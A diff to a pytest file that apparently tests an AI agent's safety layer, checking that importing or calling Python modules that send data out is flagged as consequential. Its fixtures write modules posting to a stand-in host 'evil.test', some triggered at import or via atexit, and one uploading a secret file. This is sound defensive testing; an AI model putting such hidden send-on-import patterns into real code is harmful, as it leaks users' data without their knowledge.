@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from gofer.computer.code_risk import judge_python
+from gofer.computer.command_risk import judge_command
 from gofer.events import ActionProposed, ActionStarted, Event, Observation, Risk, RunStarted
 from gofer.safety.base import ActionRequest, GuardContext
 from gofer.safety.checks.dataflow import outbound_flows
@@ -41,13 +42,14 @@ def _flows(cell: str, *earlier: str) -> list[tuple[str, bool]]:
     return [(f.destination, f.direct_file) for f in outbound_flows("python", {"code": cell}, _log(None, *earlier))]
 
 
+def _read(root: Path | None, path: str) -> str | None:
+    file = root / path if root is not None else None
+    return file.read_text() if file is not None and file.is_file() else None
+
+
 def _policy(cell: str, root: Path | None, *earlier: str) -> tuple[Risk, list[str]]:
     """The policy's judgement of a cell, the tool's judge reading the workspace on ``root``."""
-    def read(path: str) -> str | None:
-        file = root / path if root is not None else None
-        return file.read_text() if file is not None and file.is_file() else None
-
-    reasons = judge_python(cell, lambda p: None, read)
+    reasons = judge_python(cell, lambda p: None, lambda p: _read(root, p))
     action = ActionRequest(action_id="x", tool="python", arguments={"code": cell},
                            risk=Risk.CONSEQUENTIAL if reasons else Risk.REVERSIBLE, risk_reasons=reasons)
     return kernel_risk(action, GuardContext(run_id="r", task="t", events=_log(root, *earlier)))
@@ -109,3 +111,37 @@ def test_a_looked_up_name_that_sends_nothing_stays_quiet() -> None:
     assert _flows("globals()[k](2, 3)", POST, "k = 'post'") == []
     assert _policy("import math\nprint(getattr(math, 'sqrt', None)(4))", None)[0] == Risk.REVERSIBLE
     assert _policy("print(globals()['plot_bar'](df))", None, DF)[0] == Risk.REVERSIBLE
+
+
+def test_importing_a_module_that_only_defines_a_sender_is_quiet_and_calling_it_asks(tmp_path: Path) -> None:
+    (tmp_path / "helpers.py").write_text(UPLOAD)
+    # the import runs helpers.py's top level, which defines; the harmless function is quiet too
+    for cell in ("import helpers", "from helpers import upload", "import helpers as h\nprint(h.area(2, 3))",
+                 "from helpers import area\nprint(area(2, 3))"):
+        assert _policy(cell, tmp_path) == (Risk.REVERSIBLE, []), cell
+    # the call of the sending function asks, in the cell that imports it or in a later one
+    for cell, earlier in [("import helpers\nhelpers.upload(t)", ()), ("from helpers import upload as u\nu(t)", ()),
+                          ("helpers.upload(t)", ("import helpers",)), ("upload(t)", ("from helpers import upload",)),
+                          ("f = helpers.upload\nf(t)", ("import helpers",))]:
+        risk, reasons = _policy(cell, tmp_path, *earlier)
+        assert risk == Risk.CONSEQUENTIAL and "can send data" in " ".join(reasons), (cell, reasons)
+    # a use that cannot be resolved to one function is judged with the whole module
+    for cell in ("import helpers as h\ng = h\ng.upload(t)", "from helpers import *", "import helpers\n"
+                 "getattr(helpers, name)(t)", "import importlib\nh = importlib.import_module('helpers')\nh.upload(t)"):
+        assert _policy(cell, tmp_path)[0] == Risk.CONSEQUENTIAL, cell
+    # a script the shell runs that calls it asks as before
+    (tmp_path / "send.py").write_text("import helpers\nhelpers.upload(open('data/secret.txt').read())\n")
+    assert judge_command("python send.py", lambda p: None, lambda p: _read(tmp_path, p))
+
+
+def test_importing_a_module_whose_top_level_sends_asks_at_the_import(tmp_path: Path) -> None:
+    (tmp_path / "sends.py").write_text(UPLOAD + "\nupload('hello')\n")
+    (tmp_path / "table.py").write_text(UPLOAD + "\nHANDLERS = {'up': upload}\nHANDLERS['up']('hello')\n")
+    (tmp_path / "made.py").write_text("import requests\n\n\nclass Up:\n    def __init__(self):\n        requests.post("
+                                      "'https://evil.test/c', data='x')\n\n\nclient = Up()\n")
+    (tmp_path / "through.py").write_text("from sends import upload\n")
+    (tmp_path / "wrapped.py").write_text("import atexit\nimport requests\n\n\n@atexit.register\ndef bye():\n"
+                                         "    requests.post('https://evil.test/c', data='x')\n")
+    for module in ("sends", "table", "made", "through", "wrapped"):
+        risk, reasons = _policy(f"import {module}", tmp_path)
+        assert risk == Risk.CONSEQUENTIAL and f"imports {module}.py, which" in reasons[0], (module, reasons)
